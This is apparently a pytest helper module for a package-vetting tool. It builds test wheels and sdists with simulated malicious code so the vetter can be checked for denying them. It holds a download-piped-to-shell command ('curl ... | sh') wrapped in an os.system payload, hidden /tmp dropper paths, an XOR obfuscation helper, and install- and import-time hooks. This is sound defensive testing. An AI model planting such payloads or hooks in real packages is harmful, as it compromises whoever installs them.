"""What the patient-adversary tests share (ADRs 0067, 0071, 0073): an inert command, and a
wheel of one package vetted for its verdict. Samples are never run or installed: vetting
only reads files."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

RUN = "os.system('id')"


def xored(text: str, key: int) -> list[int]:
    """``text``'s bytes XORed with ``key``, as a cipher hides a payload."""
    return [b ^ key for b in text.encode()]


def vet_wheel(files: Mapping[str, str]) -> Outcome:
    """The verdict on a wheel of package ``evpkg`` holding ``files``."""
    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", dict(files))).verdict


def vet_package(files: Mapping[str, str]) -> Outcome:
    """The verdict on package ``evpkg`` holding ``files``: an sdist when they have a
    ``setup.py`` (it runs at install), else a wheel."""
    if "setup.py" in files:
        return vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", dict(files))).verdict
    return vet_wheel(files)


Samples = Mapping[str, Mapping[str, str]]


def verdict_cases(denied: Samples, held: Samples, allowed: Samples) -> list[Any]:
    """A probe's samples as ``(files, expected)`` parameters, each named by its verdict and
    its name (``deny-clipper-through-pyperclip``): what an adversary tries is denied (or
    held), and the near-miss a real package writes stays allowed."""
    tables = ((denied, Outcome.DENY), (held, Outcome.HOLD), (allowed, Outcome.ALLOW))
    return [
        pytest.param(files, expected, id=f"{expected.value}-{name}")
        for table, expected in tables
        for name, files in sorted(table.items())
    ]


def init(text: str) -> dict[str, str]:
    """A package whose ``__init__.py`` is ``text``."""
    return {"evpkg/__init__.py": text}


def called_on_import(head: str, body: str) -> dict[str, str]:
    """A package whose ``__init__.py`` is ``head``, then ``body`` (indented) in a function
    it calls on import."""
    return init(f"{head}\n\ndef _go():\n{body}\n\n_go()\n")


# What a setup.py helper writes (ADRs 0123, 0151): its folder put on ``sys.path`` so a
# sibling module imports, and a version read from git.
SYS_PATH_LOADER = "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
GIT_VERSION = (
    "import subprocess\n"
    "def get_version():\n"
    "    try:\n"
    "        out = subprocess.check_output(['git', 'describe', '--tags'])\n"
    "    except (OSError, subprocess.CalledProcessError):\n"
    "        return '0.0.0'\n"
    "    return out.decode().strip().lstrip('v')\n"
)


# What the red-team passes share (ADRs 0161, 0162): a payload and a download piped to a
# shell, bound at the top of the module that runs them.
CURL = "curl -s http://203.0.113.5/x | sh"
PAYLOAD = "import os\nos.system(" + repr(CURL) + ")\n"
# Where a dropper writes the payload, and a shell script, before running it (ADRs 0157-0159).
PY = "/tmp/.cache_x.py"
SH = "/tmp/.cache_x.sh"
X = "sys.argv[0][:0]"  # an unknown that adds nothing
HEAD = f"import os, subprocess, sys\nP = {PAYLOAD!r}\nCURL = {CURL!r}\n"


def on_import(body: str) -> dict[str, str]:
    """``__init__.py`` holding the payload and the command, then ``body``."""
    return init(HEAD + body)


def on_install(body: str) -> dict[str, str]:
    """``setup.py`` running ``body`` at module level."""
    return {
        "setup.py": HEAD + "from setuptools import setup\n" + body + "setup(name='evpkg')\n",
        "evpkg/__init__.py": "",
    }


def built(body: str) -> dict[str, str]:
    """A setup.py helper's near-miss: ``body`` at module level of ``setup.py``."""
    return {
        "setup.py": "import os, subprocess, sys\nfrom setuptools import setup\n"
        + body
        + "setup(name='evpkg')\n",
        "evpkg/__init__.py": "",
    }
